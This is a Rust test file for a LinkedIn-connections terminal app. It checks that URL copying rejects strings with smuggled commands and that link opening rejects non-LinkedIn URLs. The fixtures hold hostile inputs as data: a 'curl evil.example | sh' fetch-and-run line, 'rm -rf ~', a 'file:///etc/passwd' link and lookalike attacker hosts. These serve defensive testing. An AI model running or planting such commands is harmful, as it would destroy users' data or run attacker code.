//! Links from the export that must not act: `y` copies only a single line of URL
//! characters, and History's work-through neither opens nor marks opened a link that is
//! not LinkedIn's own (the opener itself refuses it too: see the pseudo-terminal test).

use crate::fixtures::app_on;
use crate::history_fixtures::{december, history_app, november, removal, removals};
use chrono::NaiveDate;
use unconnect::app::{Action, App, Effect, ListKind};
use unconnect::model::Person;
use unconnect::model::history::Status;

fn person(first: &str, url: &str) -> Person {
    Person {
        first_name: first.into(),
        last_name: "X".into(),
        url: url.into(),
        connected_on: NaiveDate::from_ymd_opt(2024, 3, 13),
        ..Default::default()
    }
}

fn app_of(people: Vec<Person>) -> App {
    app_on(people.into_iter().collect(), december(1))
}

fn status(app: &App) -> String {
    app.status()
        .as_ref()
        .map(|s| s.text.clone())
        .unwrap_or_default()
}

#[test]
fn y_refuses_a_url_holding_a_line_break_or_spaces() {
    for url in [
        "https://www.linkedin.com/in/eve\ncurl https://evil.example/x | sh\n",
        "https://www.linkedin.com/in/eve\r\nrm -rf ~",
        "https://www.linkedin.com/in/eve; rm -rf ~",
        "https://www.linkedin.com/in/eve\u{2028}rm",
    ] {
        let mut app = app_of(vec![person("Eve", url)]);
        let effects = app.update(Action::CopyUrl);
        assert!(
            !effects.iter().any(|e| matches!(e, Effect::Copy { .. })),
            "{url:?}: {effects:?}"
        );
        let said = status(&app);
        assert!(said.starts_with("Not copied:"), "{said}");
        assert!(
            !said.chars().any(unconnect::text_safety::is_unsafe),
            "{said:?}"
        );
    }
    let mut app = app_of(vec![person("Ada", "https://www.linkedin.com/in/ada")]);
    let effects = app.update(Action::CopyUrl);
    assert!(
        matches!(&effects[..], [Effect::Copy { text, .. }] if text == "https://www.linkedin.com/in/ada"),
        "{effects:?}"
    );
}

#[test]
fn enter_in_history_neither_opens_nor_marks_a_link_that_is_not_linkedins() {
    for url in [
        "file:///etc/passwd",
        "smb://host/share/x.desktop",
        "https://linkedin.com.evil.net/in/eve",
        "https://www.linkedin.com@evil.net/in/eve",
    ] {
        let eve = person("Eve", url);
        let history = removals(vec![removal(&eve, november(20), "b", Status::ToDo)]);
        let mut app = history_app([eve], [0], history, december(1));
        assert_eq!(app.list(), Some(ListKind::Removed));
        let effects = app.update(Action::OpenNext);
        assert!(effects.is_empty(), "{url}: {effects:?}");
        let said = status(&app);
        assert!(said.starts_with("Not opened:"), "{said}");
        assert_eq!(app.records(ListKind::Removed)[0].status(), Status::ToDo);
    }
}
